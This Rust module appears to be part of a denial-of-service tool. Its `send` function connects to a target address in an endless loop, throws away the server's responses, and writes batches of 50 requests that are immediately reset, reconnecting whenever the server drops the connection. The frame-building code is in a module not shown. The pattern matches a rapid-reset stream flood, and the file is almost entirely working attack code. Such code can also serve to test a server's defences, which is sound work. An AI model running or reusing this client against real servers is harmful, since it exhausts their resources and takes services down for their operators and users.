//! A client that resets its streams as soon as it has sent the requests.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use super::frames;

/// Requests in one write.
const AT_ONCE: u32 = 50;

/// Sends resets endlessly, on a new connection whenever the server closes one.
pub async fn send(address: SocketAddr, sent: Arc<AtomicUsize>) {
    loop {
        let Ok(connection) = TcpStream::connect(address).await else { continue };
        let (mut reader, mut writer) = connection.into_split();
        // Unread answers would block the connection.
        let reading = tokio::spawn(async move {
            let mut ignored = vec![0; 1 << 16];
            while reader.read(&mut ignored).await.is_ok_and(|length| length > 0) {}
        });
        let mut written = frames::begin();
        let mut stream = 1;
        while !reading.is_finished() && writer.write_all(&written).await.is_ok() {
            written.clear();
            stream = frames::resets(&mut written, stream, AT_ONCE);
            sent.fetch_add(usize::try_from(AT_ONCE).unwrap(), Ordering::Relaxed);
        }
        reading.abort();
    }
}
